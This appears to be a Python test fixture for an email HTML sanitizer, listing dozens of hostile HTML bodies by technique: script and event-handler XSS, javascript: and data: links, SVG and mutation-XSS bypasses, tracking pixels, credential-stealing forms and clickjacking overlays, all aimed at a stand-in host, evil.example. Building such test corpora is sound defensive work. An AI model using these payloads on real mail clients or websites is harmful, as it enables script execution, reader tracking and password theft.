"""HTML that means harm: what is sent to people who open mail, one body for each trick."""

from __future__ import annotations

EVIL = "http://evil.example"
RUN = f"window.pwned=top.pwned=1;console.log('pwned');alert('pwned');new Image().src='{EVIL}/ran'"
CALL = "console.log(&quot;pwned&quot;)"
HTTP = f"{EVIL}/seen"


def _escaped(words: str) -> str:
    return "".join(f"&#{ord(letter)}" for letter in words)


BODIES: dict[str, str] = {
    # scripts by every name
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f"<script src='{EVIL}/x.js'></script><script type=module src='{EVIL}/m.js'></script>",
    "script in upper case with a slash": f"<SCRIPT/x>{RUN}</SCRIPT/x>",
    "script within script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script that never ends": f"<p>hello<script>{RUN}",
    "script after a NUL": f"<scr\0ipt>{RUN}</scr\0ipt>",
    "full-width script": f"＜script＞{RUN}＜/script＞<ſcript>{RUN}</ſcript>",
    "conditional comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]--><!--><img src=x onerror={CALL}>-->",
    "server's own words": f"<?xml version='1.0'?><?php {RUN} ?><%= {RUN} %><![CDATA[<script>{RUN}</script>]]>",
    # event handlers
    "image error": f'<img src="x" onerror="{RUN}"><img src=x onerror={CALL}>',
    "body load": f'<body onload="{RUN}" onpageshow="{RUN}" onfocus="{RUN}">hello</body>',
    "slash and no space": f'<img/src="x"/onerror={CALL}//><img\nsrc=x\tonerror\n=\n"{RUN}">',
    "details and autofocus": f'<details open ontoggle="{RUN}">x</details><input autofocus onfocus="{RUN}">',
    "media events": f'<video src=x onerror="{RUN}"><source onerror="{RUN}"></video><audio src=x onerror="{RUN}">',
    "animation events": f'<style>@keyframes x{{}}</style><b style="animation-name:x" onanimationstart="{RUN}">x</b>',
    "marquee": f'<marquee onstart="{RUN}">x</marquee><isindex type=image src=1 onerror="{RUN}">',
    # links that are programs
    "javascript link": f'<a href="javascript:{RUN}">open</a><a href="vbscript:x">x</a>',
    "javascript link, spelled oddly": (
        f'<a href="{_escaped("javascript:")}{CALL}">a</a><a href="java\tscript:{CALL}">b</a>'
        f'<a href=" &#1; javascript:{CALL}">c</a><a href="jAvAsCrIpT&colon;{CALL}">d</a>'
    ),
    "data link": f'<a href="data:text/html,<script>{RUN}</script>">x</a><img src="data:text/html,<script>x</script>">',
    "picture that is a program": (
        f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>\">"
        f'<img src="javascript:{CALL}"><img src="data:image/png;base64,iVBORw0KGgo=" onload="{RUN}">'
    ),
    # other languages within HTML
    "svg": f'<svg onload="{RUN}"><script>{RUN}</script><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "svg use and foreign object": (
        f"<svg><use href='{EVIL}/x.svg#a'/><image href='{HTTP}'/><foreignObject><iframe src='{EVIL}'></iframe>"
        f"</foreignObject><a xlink:href='javascript:{CALL}'><text y=20>x</text></a></svg>"
    ),
    "math": f"<math href='javascript:{CALL}'>x</math><math><maction actiontype='statusline#{EVIL}'>x</maction></math>",
    # parsers that disagree (mXSS)
    "mutation: noscript": f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    "mutation: math and style": (
        f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror='{CALL}'&gt;\">"
    ),
    "mutation: svg and title": f'<svg></p><style><a id="</style><img src=1 onerror={CALL}>"></svg>',
    "mutation: template and textarea": (
        f"<template><script>{RUN}</script></template><textarea></textarea><img src=x onerror={CALL}></textarea>"
        f"<xmp><img src=x onerror={CALL}></xmp><plaintext><img src=x onerror={CALL}>"
    ),
    "mutation: form in form": (
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}></style></mglyph></form>"
    ),
    "mutation: nested tables": "<table>" * 300 + f"<img src=x onerror={CALL}>" + "</table>" * 300,
    # pictures of the reader
    "tracking pixel": f'<img src="{HTTP}.gif" width=1 height=1><img srcset="{HTTP}2.gif 2x"><img lowsrc="{HTTP}3.gif">',
    "tracking by style": (
        f"<style>@import url({HTTP}.css);body{{background:url({HTTP}1)}}@font-face{{font-family:x;src:url({HTTP}2)}}"
        f"p{{font-family:x;list-style:url({HTTP}3);cursor:url({HTTP}4),auto}}</style><p>x</p>"
        f'<p style="background-image:url({HTTP}5);border-image:url({HTTP}6);content:url({HTTP}7)">x</p>'
        f'<p style="background:u\\72l({HTTP}8);--x:url({HTTP}9)">x</p>'
    ),
    "tracking by old attributes": (
        f'<body background="{HTTP}b"><table background="{HTTP}c"><tr><td background="{HTTP}d">x</table>'
        f'<video poster="{HTTP}e"></video><audio src="{HTTP}f" autoplay></audio><bgsound src="{HTTP}g">'
        f'<picture><source srcset="{HTTP}h"><img src=x></picture><track src="{HTTP}i"><input type=image src="{HTTP}j">'
    ),
    "tracking by link": (
        f"<link rel=stylesheet href='{HTTP}.css'><link rel=prefetch href='{HTTP}p'><link rel=preload as=image"
        f" href='{HTTP}q'><link rel=icon href='{HTTP}r'><link rel=manifest href='{HTTP}s'>"
        f"<a href='{EVIL}/a' ping='{HTTP}t'>x</a>"
    ),
    # pages within the page
    "frames": (
        f"<iframe src='{EVIL}/f'></iframe><iframe srcdoc='<script>{CALL}</script>'></iframe>"
        f"<frameset><frame src='{EVIL}/g'></frameset><portal src='{EVIL}/h'></portal>"
    ),
    "objects": (
        f"<object data='{EVIL}/o'></object><embed src='{EVIL}/e'><applet code=x codebase='{EVIL}'></applet>"
        f"<object data='data:text/html,<script>{RUN}</script>'></object>"
    ),
    # going elsewhere
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/gone"><meta http-equiv=Set-Cookie content="x=1">',
    "refresh by data": f'<meta http-equiv="refresh" content="0;url=data:text/html,<script>{RUN}</script>">',
    "base": f'<base href="{EVIL}/" target="_top"><a href="/x">x</a><img src="y.gif">',
    "charset": f'<meta charset="utf-7">+ADw-script+AD4-{RUN}+ADw-/script+AD4-',
    # forms and overlays
    "form": (
        f"<form action='{EVIL}/form' method=post id=f><input name=password><button autofocus>Sign in</button></form>"
        f"<input form=f type=submit formaction='{EVIL}/form2'><button form=f formaction='javascript:{CALL}'>x</button>"
    ),
    "overlay": (
        f'<a href="{EVIL}/overlay" style="position:fixed;inset:0;z-index:2147483647;display:block;opacity:0">x</a>'
        f'<div style="position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px">x</div>'
    ),
    "overlay by margins": (
        f'<a href="{EVIL}/margin"><div style="margin:-5000px;padding:5000px;width:9000px;height:9000px">x</div></a>'
    ),
    # names that hide the document's own
    "clobbering": (
        "<img name=cookie><img name=body><form name=documentElement><input name=parentNode><input name=attributes>"
        "</form><a id=defaultView></a><a id=top name=top></a><iframe name=self></iframe>"
    ),
    "deep": "<div>" * 20_000 + f"<img src=x onerror={CALL}>" + "</div>" * 20_000,
    "many attributes": "<b " + " ".join(f"a{n}=1" for n in range(20_000)) + f" onclick={CALL}>x</b>",
}
